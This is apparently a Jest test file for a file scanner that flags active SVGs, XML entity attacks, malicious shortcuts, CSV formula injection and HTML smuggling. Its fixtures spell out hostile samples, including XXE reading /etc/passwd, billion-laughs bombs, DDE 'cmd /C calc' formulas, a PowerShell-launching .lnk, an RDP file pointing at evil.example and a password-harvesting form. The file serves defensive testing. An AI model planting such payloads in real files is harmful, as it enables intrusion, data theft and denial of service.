/** Text that does something when it is opened is told by what it is and by what it would do. */
import { describe, expect, it } from '@jest/globals'
import { activeHtml } from '../../../src/inspection/files/active-html.ts'
import { formula } from '../../../src/inspection/files/formula.ts'
import { shortcut } from '../../../src/inspection/files/shortcut.ts'
import { svgActive } from '../../../src/inspection/files/svg-active.ts'
import { xmlEntities } from '../../../src/inspection/files/xml-entities.ts'
import { makeLnk, makePdf, makePng, makeShellLink, makeSvg, makeZip } from '../../support/files.ts'
import { codesOf, look, subjectOf } from './subject.ts'

const MEGABYTE = 1024 * 1024
const LAUGHS = `<!DOCTYPE svg [<!ENTITY a "lol">${'bcdefghij'
  .split('')
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
  .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`

describe('files/svg-active', () => {
  it.each<[string, string | Buffer]>([
    ['a script', makeSvg('<script>alert(1)</script>')],
    ['a script under a prefix', '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>x</s:script></s:svg>'],
    [
      'a script under a prefix that is declared twice',
      makeSvg('<g xmlns:a="urn:x"><g xmlns:a="http://www.w3.org/2000/svg"><a:script/></g></g>'),
    ],
    ['a handler', makeSvg('<circle onload="x()"/>')],
    ['a handler in capitals', makeSvg('<circle onLoad="x()"/>')],
    ['a page inside', makeSvg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>')],
    ['a link that is a script', makeSvg('<a xlink:href="javascript:x()"><text>x</text></a>')],
    ['a link that is a script in disguise', makeSvg('<a href="&#x6A;ava&#9;script:x()"><text>x</text></a>')],
    ['a link that becomes a script', makeSvg('<a><animate attributeName="href" values="#;javascript:x()"/></a>')],
    ['a picture from elsewhere', makeSvg('<image href="https://example.com/a.png"/>')],
    ['a picture from a share', makeSvg('<image href="\\\\host\\a.png"/>')],
    ['a shape from elsewhere', makeSvg('<use href="https://example.com/a.svg#x"/>')],
    ['a style sheet from elsewhere', makeSvg('<style>@import url(https://example.com/a.css)</style>')],
    ['a colour from elsewhere', makeSvg('<rect style="fill: url(https://example.com/a.svg#x)"/>')],
    ['an address in a style, spelled otherwise', makeSvg('<style>a{fill:\\75 rl(//example.com)}</style>')],
    ['a style sheet for XML', '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['an element that is not known', makeSvg('<iframe src="a"/>')],
    ['a page as an address', makeSvg('<use href="data:image/svg+xml;base64,PHN2Zy8+"/>')],
    ['a drawing that breaks off behind a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script>'],
    ['in UTF-16', Buffer.from(`\ufeff${makeSvg('<script>x</script>').toString()}`, 'utf16le')],
  ])('catches a drawing with %s', async (_name, content) => {
    expect(codesOf(svgActive, await subjectOf('a.svg', content))).toEqual(['FILE_SVG_ACTIVE'])
  })

  it.each<[string, string | Buffer]>([
    ['shapes', makeSvg()],
    ['a picture in it', makeSvg(`<image href="data:image/png;base64,${makePng().toString('base64')}"/>`)],
    [
      'shapes used twice and colours of its own',
      makeSvg('<defs><linearGradient id="a"/></defs><use href="#b"/><rect fill="url(#a)" style="stroke:url(#a)"/>'),
    ],
    [
      'what an editor keeps',
      makeSvg(
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>',
      ),
    ],
    ['movement', makeSvg('<circle><animate attributeName="r" to="9"/></circle>')],
    ['a style of its own', makeSvg('<style>.a{fill:red;font-family:"A"}</style>')],
    [
      'the DOCTYPE of old',
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
    ['a link to a page', makeSvg('<a href="https://example.com/"><text>x</text></a>')],
  ])('lets a drawing with %s pass as a picture', async (_name, content) => {
    const subject = await subjectOf('a.svg', content)
    expect(look(svgActive, subject)).toEqual({ status: 'ok', sightings: [] })
    expect(codesOf(activeHtml, subject)).toEqual([])
    expect(codesOf(xmlEntities, subject)).toEqual([])
  })

  it.each<[string, string]>([
    ['groups in groups', `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(200_000)}`],
    ['another encoding', '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
  ])('answers hostile input: cannot tell of a drawing of %s', async (_name, content) => {
    expect(look(svgActive, await subjectOf('a.svg', content)).status).toBe('unscannable')
  })

  it('cannot tell of a drawing that was not opened', async () => {
    const subject = await subjectOf('a.svg', makeSvg())
    expect(look(svgActive, { ...subject, listing: null }).status).toBe('unscannable')
  })
})

describe('files/xml-entities', () => {
  it.each([
    ['a billion laughs as a drawing', 'a.svg', LAUGHS],
    ['a billion laughs as data', 'a.xml', `<?xml version="1.0"?>${LAUGHS.replaceAll('svg', 'order')}`],
    ['a file of the reader', 'a.xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a definition from elsewhere', 'a.xml', '<?xml version="1.0"?><!DOCTYPE a SYSTEM "https://example.com/a.dtd"><a/>'],
    ['a parameter entity', 'a.xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "https://example.com/x"> %x;]><a/>'],
    ['attributes that nobody wrote', 'a.xml', '<?xml version="1.0"?><!DOCTYPE a [<!ATTLIST a onload CDATA "x">]><a/>'],
  ])('catches %s', async (_name, name, content) => {
    expect(codesOf(xmlEntities, await subjectOf(name, content))).toEqual(['FILE_XML_ENTITIES'])
  })

  it.each([
    ['plain data', '<?xml version="1.0"?><order>A &amp; B</order>'],
    [
      'a DOCTYPE without more',
      '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd"><plist/>',
    ],
    ['words about entities', 'An <!ENTITY in a DOCTYPE is dangerous.'],
  ])('lets %s pass', async (_name, content) => {
    expect(codesOf(xmlEntities, await subjectOf('a.xml', content))).toEqual([])
  })

  it.each([
    ['declarations', '<!ENTITY a "b">'],
    ['openings', '<!ENTITY '],
    ['blanks', ' '],
  ])('answers hostile input: a megabyte of %s', async (_name, unit) => {
    const content = `<?xml version="1.0"?><!DOCTYPE a [${unit.repeat(Math.ceil(MEGABYTE / unit.length))}`
    expect(look(xmlEntities, await subjectOf('a.xml', content)).status).toBe('ok')
  })
})

describe('files/shortcut', () => {
  const powershell = makeShellLink({
    target: 'C:\\Windows\\System32\\cmd.exe',
    arguments: `${' '.repeat(200)}/c powershell -enc AAAA https://example.com/a.hta`,
    icon: '\\\\host\\icon.ico',
    environment: '%COMSPEC%',
    minimized: true,
    behind: Buffer.alloc(500, 0x41),
  })

  it('names what a Windows shortcut starts, with which words and how it hides', async () => {
    const { sightings } = look(shortcut, await subjectOf('invoice.pdf.lnk', powershell))
    expect(sightings.map(({ code }) => code)).toEqual(['FILE_SHORTCUT'])
    const quoted = new Map(sightings[0]?.evidence?.map(({ label, value }) => [label, value]))
    expect(quoted.get('target')).toBe('C:\\Windows\\System32\\cmd.exe')
    expect(quoted.get('arguments')).toContain('powershell -enc AAAA')
    expect(quoted.get('environment')).toBe('%COMSPEC%')
    expect([...quoted.keys()]).toEqual(expect.arrayContaining(['minimized', 'padding', 'more-behind', 'icon']))
  })

  it.each<[string, string, string, string]>([
    ['a web shortcut', '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\host\\a.ico\r\n', 'url', 'https://example.com/'],
    ['a desktop entry', '[Desktop Entry]\nType=Application\nExec=sh -c "curl example.com"\n', 'command', 'sh -c "curl example.com"'],
    ['a command of the shell', '[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\x\r\n', 'icon', '\\\\host\\x'],
    ['a connection', 'full address:s:evil.example:3389\r\ndrivestoredirect:s:*\r\n', 'server', 'evil.example:3389'],
    ['a query', 'WEB\r\n1\r\nhttps://example.com/a.dat\r\n', 'url', 'https://example.com/a.dat'],
    [
      'a library',
      '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\host\\share</url></simpleLocation></libraryDescription>',
      'url',
      '\\\\host\\share',
    ],
    [
      'a setting',
      '<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>',
      'command',
      '%windir%\\system32\\cmd.exe /c calc',
    ],
  ])('catches %s', async (_name, content, label, value) => {
    const { sightings } = look(shortcut, await subjectOf('a.txt', content))
    expect(sightings[0]?.code).toBe('FILE_SHORTCUT')
    expect(sightings[0]?.evidence).toContainEqual({ label, value })
  })

  it.each<[string, string | Buffer]>([
    ['words about a shortcut', 'Put URL=https://example.com under [InternetShortcut], please.'],
    ['a document', makePdf()],
    ['an invitation', 'BEGIN:VCALENDAR\r\nURL:https://example.com\r\nEND:VCALENDAR\r\n'],
  ])('lets %s pass', async (_name, content) => {
    expect(codesOf(shortcut, await subjectOf('a.txt', content))).toEqual([])
  })

  it.each<[string, Buffer]>([
    ['that is cut', powershell.subarray(0, 90)],
    ['of nothing but a header', makeLnk()],
    ['whose sizes are all at their most', Buffer.concat([makeLnk().subarray(0, 20), Buffer.alloc(200, 0xff)])],
    ['of a megabyte of line ends', Buffer.concat([Buffer.from('[InternetShortcut]\n'), Buffer.alloc(MEGABYTE, '\n')])],
  ])('answers hostile input: a shortcut %s', async (_name, content) => {
    expect(look(shortcut, await subjectOf('a.lnk', content)).status).toBe('ok')
  })
})

describe('files/formula', () => {
  it.each([
    ['a command by DDE', "name,amount\n=cmd|' /C calc'!A0,12\n"],
    ['a command behind a sum', "name,amount\nx,=1+1+cmd|' /C calc'!A0\n"],
    ['a command behind a minus', "name,amount\nx,-2+3+cmd|' /C calc'!D2\n"],
    ['a command behind an at', "name,amount\nx,@SUM(1+1)*cmd|' /C calc'!A0\n"],
    ['a command in quotes', 'name,amount\n"=cmd|\' /C calc\'!A0",1\n'],
    ['a link', 'name;amount\n=HYPERLINK("https://example.com?"&A1;"open");1\n'],
    ['a fetch', 'a,b\n"=WEBSERVICE(""https://example.com/""&A1)",1\n'],
    ['an import', 'a,b\n=IMPORTXML("https://example.com","//a"),1\n'],
    ['a sum', 'a,b\n=SUM(A1:A9),1\n'],
    ['in UTF-16', "\ufeffa\tb\r\n=cmd|'/c calc'!A0\t1\r\n"],
  ])('catches a table with %s', async (name, content) => {
    const bytes = name === 'in UTF-16' ? Buffer.from(content, 'utf16le') : Buffer.from(content)
    expect(codesOf(formula, await subjectOf('a.csv', bytes))).toEqual(['FILE_CSV_FORMULA'])
  })

  it.each([
    ['negative numbers', 'a,b\n-12,-3.5\n-1,-2\n'],
    ['phone numbers', 'name;phone\nAnna;+46 70 123 45 67\nBo;+1 (212) 555-0100\n'],
    ['names with an at', 'name,handle\nAnna,@anna\nBo,@bo\n'],
    ['numbers kept as text', 'id,code\n1,="0012"\n2,="0013"\n'],
    ['lists with dashes', '- call (again) on Monday\n- see note (a), then (b)\n'],
    ['a column of numbers beside words of functions', 'a,b\n-12,IMAGE(x)\n+3,y\nCALL(me),z\n'],
    ['sums in words', 'a,b\n1+1=2,x\nx,y=3\n'],
  ])('lets a table with %s pass', async (_name, content) => {
    expect(codesOf(formula, await subjectOf('a.csv', content))).toEqual([])
  })

  it('lets words that speak of formulas pass, and catches a command in them', async () => {
    expect(codesOf(formula, await subjectOf('a.txt', 'I typed\n=SUM(A1:A9)\nand it said error.'))).toEqual([])
    expect(codesOf(formula, await subjectOf('a.txt', "Hello\n=cmd|' /C calc'!A0\n"))).toEqual(['FILE_CSV_FORMULA'])
  })

  it.each([',=', '=,', ',"=a|', '-+', '@(', '=cmd|'])('answers hostile input: a megabyte of %s', async (unit) => {
    expect(look(formula, await subjectOf('a.csv', Buffer.alloc(MEGABYTE, unit))).status).toBe('ok')
  })
})

describe('pages that do worse', () => {
  const zip = makeZip([{ name: 'a.js', data: 'x' }]).toString('base64')

  it.each([
    [
      'builds an archive and hands it over',
      `<html><script>const b=new Blob([Uint8Array.from(atob("${zip}"),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click()</script>`,
    ],
    ['holds an archive in pieces', `<html><script>var p="${zip.slice(0, 60)}"+"${zip.slice(60)}";save(p)</script>`],
    ['holds an archive as an address', `<html><a href="data:application/zip;base64,${zip}" download="x.zip">open</a>`],
  ])('catches a page that %s, and takes the file out', async (_name, content) => {
    const subject = await subjectOf('a.html', content)
    expect(codesOf(activeHtml, subject)).toEqual(expect.arrayContaining(['FILE_ACTIVE_HTML', 'FILE_HTML_SMUGGLING']))
    expect(subject.listing?.entries).toHaveLength(1)
  })

  it('catches a page that asks for a password', async () => {
    const page = '<html><form action="https://example.com/take"><input name="mail"><input type="password"></form>'
    expect(codesOf(activeHtml, await subjectOf('a.html', page))).toEqual(['FILE_ACTIVE_HTML', 'FILE_PASSWORD_FORM'])
  })

  it('says no more of a plain page than that it is one', async () => {
    const page = `<html><img src="data:image/png;base64,${makePng().toString('base64')}"><form><input name="q"></form><script>count += 1</script>`
    expect(codesOf(activeHtml, await subjectOf('a.html', page))).toEqual(['FILE_ACTIVE_HTML'])
  })
})
